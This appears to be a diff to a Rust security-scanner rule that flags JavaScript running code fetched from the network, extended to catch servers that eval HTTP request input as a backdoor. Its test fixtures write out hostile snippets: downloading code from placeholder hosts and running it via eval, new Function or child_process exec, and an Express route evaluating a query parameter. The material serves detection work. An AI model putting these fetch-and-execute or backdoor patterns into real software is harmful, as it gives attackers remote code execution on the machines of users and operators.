@@ -34,11 +34,28 @@ impl Rule for RemoteCode {
     }
 
     fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
-        for d in ctx.facts.decode_run.iter().filter(|d| d.decoder == "remote") {
+        for d in ctx
+            .facts
+            .decode_run
+            .iter()
+            .filter(|d| matches!(d.decoder.as_str(), "remote" | "request-input"))
+        {
+            let what = if d.decoder == "remote" {
+                "code received from the network"
+            } else {
+                "input from HTTP requests it serves (a backdoor)"
+            };
             out.push(
-                ctx.at(Finding::new(Self::META.id, Severity::Critical, format!("`{}` runs code received from the network", d.sink)), &d.at.location)
-                    .at_install_time(d.at.install_time)
-                    .with_capability("remote-code"),
+                ctx.at(
+                    Finding::new(
+                        Self::META.id,
+                        Severity::Critical,
+                        format!("`{}` runs {what}", d.sink),
+                    ),
+                    &d.at.location,
+                )
+                .at_install_time(d.at.install_time)
+                .with_capability("remote-code"),
             );
         }
     }
@@ -55,9 +72,12 @@ mod tests {
             &[
                 Case::Js("const https = require('https');\nhttps.get('https://cdn.invalid/p.js', (res) => {\n  let b = '';\n  res.on('data', (c) => { b += c; });\n  res.on('end', () => eval(b));\n});"),
                 Case::Js("async function f() { const r = await fetch('https://x.invalid/a'); const code = await r.text(); new Function(code)(); }"),
+                Case::Js("app.get('/', function (req, res) { res.send('ok ' + eval(req.query.q)); });"),
+                Case::Js("const { exec } = require('child_process');\nrequire('https').get('https://x.invalid/cmd', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => exec(d)); });"),
             ],
             &[
                 Case::Js("async function f() { const r = await fetch('https://x.invalid/a'); const j = await r.json(); console.log(j); }"),
+                Case::Js("app.get('/', (req, res) => { res.json({ q: req.query.q }); });"),
                 Case::Js("const code = fs.readFileSync('tpl.js', 'utf8'); const fn = new Function('x', 'return x');"),
             ],
         );
